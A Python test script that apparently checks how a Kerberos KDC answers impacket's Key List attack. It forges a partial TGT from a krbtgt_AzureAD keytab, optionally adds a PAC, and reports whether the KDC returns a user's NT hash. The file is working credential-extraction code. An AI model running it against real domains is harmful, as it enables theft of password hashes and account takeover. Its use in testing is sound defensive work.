#!/usr/bin/env python3
"""Asks for the NT hash of a user with impacket's own key-list client: `KeyListSecrets` of its `secretsdump`.

As released, 0.13.1 forges a partial TGT without a PAC. With `--sid`, `createPartialTGT` is overridden so that its
ticket carries one, with PAC_REQUESTOR, built by impacket's `krb5.pac`; everything else is impacket's. It asks port 88
of the KDC. Prints one JSON object: `hash` (hexadecimal) or null, with `told`, what impacket said of the failure, and
`of_password`, whether it is the hash of `--password`. Exit status 0 for either.

Needs impacket 0.13.1 (`tests/run` makes the environment). Never used for anything but tests.
"""

import argparse
import json
import logging
import types

from impacket.examples.secretsdump import KeyListSecrets
from impacket.krb5 import asn1, constants
from impacket.krb5.crypto import Enctype, Key
from impacket.krb5.types import KerberosTime, Principal
from impacket.ntlm import compute_nthash
from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

from impacket_exchange import AD_IF_RELEVANT, TICKET, add_authorization_data, decrypt, keytab_entry, partial_pac, \
    set_encrypted, win2k_pac


class WithPac(KeyListSecrets):
    """The same client, whose partial TGT has a PAC."""

    def __init__(self, arguments, key):
        super().__init__(arguments.realm, arguments.kdc, arguments.branch, key.contents.hex())
        self.key = key
        # What the PAC is about, with nothing left out or falsified.
        self.about = types.SimpleNamespace(user=arguments.user, realm=arguments.realm, sid=arguments.sid,
                                           requestor=None, no_requestor=False, bad_pac_signature=False)

    def createPartialTGT(self, userName):  # noqa: N802, N803 (impacket's names)
        ticket, session_key = super().createPartialTGT(userName)
        part = decoder.decode(decrypt(ticket["enc-part"], self.key, TICKET), asn1Spec=asn1.EncTicketPart())[0]
        authtime = KerberosTime.from_asn1(part["authtime"])
        part["authorization-data"] = noValue
        add_authorization_data(part["authorization-data"], AD_IF_RELEVANT,
                               win2k_pac(partial_pac(self.about, authtime, self.key)))
        set_encrypted(ticket, "enc-part", self.key, TICKET, encoder.encode(part), int(ticket["enc-part"]["kvno"]))
        return ticket, session_key


def main():
    arguments = parse_arguments()
    told = []
    handler = logging.Handler(logging.ERROR)
    handler.emit = lambda record: told.append(record.getMessage())
    logging.getLogger().addHandler(handler)

    key = Key(Enctype.AES256, keytab_entry(arguments.keytab).main_part["keyblock"]["keyvalue"]["data"])
    if arguments.sid:
        client = WithPac(arguments, key)
    else:
        client = KeyListSecrets(arguments.realm, arguments.kdc, arguments.branch, key.contents.hex())
    user = Principal(arguments.user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    # The three calls that `dump` and keylistattack.py make for each user.
    ticket, session_key = client.createPartialTGT(user)
    reply = client.getFullTGT(user, ticket, session_key)
    nt_hash = None
    if reply is not None:
        try:
            nt_hash = client.getKey(reply, session_key).removeprefix("0x")
        except Exception as error:  # impacket decodes the first encrypted padata, whatever it is
            told.append(f"no key list: {type(error).__name__}")
    of_password = nt_hash == compute_nthash(arguments.password).hex()
    print(json.dumps({"hash": nt_hash, "of_password": of_password, "told": told}))


def parse_arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--kdc", required=True, metavar="HOST")
    parser.add_argument("--realm", required=True)
    parser.add_argument("--branch", required=True, type=int, help="msDS-SecondaryKrbTgtNumber")
    parser.add_argument("--keytab", required=True, help="of krbtgt_AzureAD")
    parser.add_argument("--user", required=True, help="sAMAccountName")
    parser.add_argument("--sid", help="of the user: the partial TGT gets a PAC")
    parser.add_argument("--password", required=True, help="the user's")
    return parser.parse_args()


if __name__ == "__main__":
    main()
